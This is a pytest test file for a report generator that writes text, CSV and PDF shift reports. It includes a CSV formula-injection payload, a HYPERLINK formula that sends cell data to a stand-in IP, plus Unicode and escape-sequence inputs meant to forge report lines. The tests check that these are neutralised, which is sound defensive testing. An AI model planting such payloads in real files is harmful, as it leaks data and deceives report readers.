"""One document in each format: nothing lost, nothing too wide, no formula, the same bytes twice."""

from __future__ import annotations

import csv
import io
import re
from fractions import Fraction
from typing import Literal
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings, strategies as st

from controller.reports.document import Document, Figures, Signatures, column, table
from controller.reports.names import NAMES, ReportName
from controller.reports.objects import as_objects
from controller.reports.pdf import as_pdf
from controller.reports.spreadsheet import as_csv
from controller.reports.text import as_text
from controller.reports.values import Moment, Money, Value, in_a_cell, in_a_line, on_paper, stacked
from controller.words.one_line import one_line
from tests.controller.reports.conftest import HOUSE, Record, pay_flush

ZONE = ZoneInfo("America/Chicago")
PAGES = re.compile(rb"/Type /Page\b")

VALUES: st.SearchStrategy[Value] = st.one_of(
    st.none(),
    st.text(max_size=150),
    st.integers(-(10**12), 10**12),
    st.fractions().map(Money),
    st.builds(Moment, st.integers(0, 4 * 10**18), st.none() | st.booleans()),
    st.lists(st.text(max_size=20), max_size=4).map(tuple),
)


def document(*rows: Value) -> Document:
    columns = (
        column("Record", 8, "record", lambda row: row, right=True),
        column("Seat", 5, "seat", lambda row: 3),
    )
    listed = table("Rows", columns, rows)
    return Document("keys", "Key use", (("table", "CS-07"),), (listed, Figures("Sum", (("all", len(rows)),))))


BLANKS = "\u00a0 \u1680\u2000\u2003\u200b\u202f\u205f\u2060\u3000\ufeff\u00ad\u3164\u2800"
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻₌₊₋−"


def cells(text: str) -> list[str]:
    rows = csv.reader(io.StringIO(as_csv(document(text, (text, "and more")), ZONE), newline=""))
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize(
    ("before", "sign"),
    [*(("", sign) for sign in SIGNS), *((BLANKS, sign) for sign in SIGNS), *((one, "=") for one in BLANKS)],
)
def test_no_cell_of_a_spreadsheet_begins_a_formula(before: str, sign: str) -> None:
    text = f'{before}{sign}HYPERLINK("http://192.0.2.7/?"&A1,"total")'
    assert {f"'{text}", f"'{text}; and more"} <= set(cells(text))


@pytest.mark.parametrize("text", ["\t=1+1", "\r\n=1+1", "\n", "\x0b+1"])
def test_nor_does_it_behind_what_was_written_out(text: str) -> None:
    assert f"'{one_line(text)}" in cells(text)


@pytest.mark.parametrize(
    "text", ["Eve Vale", "O'Hara", "\u00a0Eve", "Zoë", "李 = 1", "1+1", "–", "(=1)", "　Eve", "€=1", '"=1"']
)
def test_a_plain_name_stays_as_it_is(text: str) -> None:
    assert text in cells(text)


@pytest.mark.parametrize("text", ["a\nb", "a\x1b[2Jb", "a\u2028b", "a\x85b", "a\u202eb"])
def test_what_people_wrote_begins_no_line_of_a_cell(text: str) -> None:
    """A second line would look as if the report said it."""
    from controller.reports import pdf

    pdf._fonts()
    (said,) = {on_paper(text, ZONE), in_a_line((text,), ZONE), in_a_cell(text, ZONE), stacked((None, text), ZONE)}
    assert len(said.splitlines()) == 1
    assert said.startswith("a\\")
    assert stacked(("c", text), ZONE, pdf._spelled).count("\n") == 1
    assert f"[U+{ord(text[1]):04X}]" in pdf._spelled(text)


def test_a_letter_that_the_font_does_not_have_is_never_left_out() -> None:
    from controller.reports import pdf

    pdf._fonts()
    assert pdf._drawable("Ręka Łódź 李") == "Reka Łódz [U+674E]"


@settings(max_examples=60, deadline=None)
@given(st.lists(VALUES, max_size=4))
def test_any_value_is_rendered_in_every_format(rows: list[Value]) -> None:
    one = document(*rows)
    assert as_text(one, ZONE).endswith("\n")
    assert len(list(csv.reader(io.StringIO(as_csv(one, ZONE), newline="")))) >= len(rows) + 5
    assert len(list(as_objects(one, ZONE))) == len(rows) + 2
    assert as_pdf(one, ZONE).startswith(b"%PDF-")


@pytest.mark.parametrize("name", NAMES)
def test_a_report_fits_100_columns(record: Record, name: ReportName) -> None:
    pay_flush(record.table, 3)
    text = as_text(record.report(name), HOUSE.zone)
    assert [line for line in text.splitlines() if len(line) > 100] == []


@pytest.mark.parametrize("paper", ["a4", "letter"])
@pytest.mark.parametrize("name", [name for name in NAMES if name not in ("round", "package")])
def test_a_report_of_a_quiet_shift_is_one_page_or_two_where_it_has_everything(
    record: Record, name: ReportName, paper: Literal["a4", "letter"]
) -> None:
    pay_flush(record.table, 3)
    pay_flush(record.table, 4, "blue")
    most = 2 if name in ("shift", "day", "trend") else 1
    assert len(PAGES.findall(as_pdf(record.report(name), HOUSE.zone, paper))) <= most


def test_a_long_list_breaks_with_its_header_on_each_page() -> None:
    made = as_pdf(document(*range(200)), ZONE)
    assert len(PAGES.findall(made)) > 1
    assert as_pdf(document(*range(200)), ZONE) == made


def test_a_cell_that_is_taller_than_a_page_is_cut_at_no_place() -> None:
    """It goes on on the next page."""
    assert len(PAGES.findall(as_pdf(document("word " * 2_000), ZONE))) > 1


def test_what_is_less_than_a_cent_is_written_out() -> None:
    third = Money(Fraction(1_000_001, 3))
    assert "$3,333.33 2/3" in as_text(Document("slip", "Slip", (("meter", third),), ()), ZONE)


def test_a_time_has_three_columns_in_a_spreadsheet() -> None:
    moment = Moment(1_767_225_600_000_000_000, synchronised=False)
    rows = list(csv.reader(io.StringIO(as_csv(document(moment), ZONE), newline="")))
    assert ["record", "record_utc", "record_clock", "seat"] in rows
    assert ["2025-12-31T18:00:00-06:00", "2026-01-01T00:00:00+00:00", "not synchronised", "3"] in rows


def test_each_signer_has_a_line() -> None:
    text = as_text(Document("slip", "Slip", (), (Signatures("Signatures", ("dealer", "pit manager")),)), ZONE)
    assert [line.split("_")[0].strip() for line in text.splitlines() if "____" in line] == ["Dealer", "Pit manager"]
